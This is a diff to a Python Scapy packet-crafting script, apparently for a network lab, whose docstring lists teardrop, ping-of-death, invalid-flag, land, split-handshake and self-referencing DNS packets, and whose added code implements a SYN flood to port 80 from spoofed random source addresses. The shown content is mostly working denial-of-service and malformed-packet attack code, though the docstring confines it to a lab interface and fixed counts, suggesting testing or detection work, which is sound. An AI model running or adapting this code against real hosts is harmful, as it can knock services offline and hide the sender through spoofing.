@@ -8,10 +8,13 @@
   craft.py invalid   VICTIM          TCP SYN+FIN, null, Xmas, SYN+RST; a land packet
   craft.py splitsyn  CLIENT SERVER   split handshake: SYN, SYN (no ACK), SYN/ACK, ACK
   craft.py dnsloop   DNS             DNS query whose QNAME is a pointer to itself
+  craft.py synflood  VICTIM N        N SYNs to :80 from random spoofed sources
+                                     10.244.0.100-250 (hosts that do not exist)
 
 Every packet goes out of the lab namespace's eth0 only; counts are fixed.
 """
 
+import random
 import sys
 
 from scapy.all import (  # type: ignore[import-not-found]
@@ -85,10 +88,21 @@ def dnsloop(dns):
     send(IP(dst=dns) / UDP(sport=53536, dport=53) / Raw(msg2))
 
 
+def synflood(dst, count):
+    rnd = random.Random(20261128)
+    sock = conf.L3socket()
+    for _ in range(int(count)):
+        src = "10.244.0.%d" % rnd.randint(100, 250)
+        sock.send(IP(src=src, dst=dst, id=rnd.randint(1, 65535))
+                  / TCP(sport=rnd.randint(1024, 65535), dport=80, flags="S",
+                        seq=rnd.randint(0, 2**32 - 1), window=1024))
+    sock.close()
+
+
 def main():
     cmd, args = sys.argv[1], sys.argv[2:]
     {"teardrop": teardrop, "overlap": overlap, "pod": pod, "invalid": invalid,
-     "splitsyn": splitsyn, "dnsloop": dnsloop}[cmd](*args)
+     "splitsyn": splitsyn, "dnsloop": dnsloop, "synflood": synflood}[cmd](*args)
 
 
 if __name__ == "__main__":
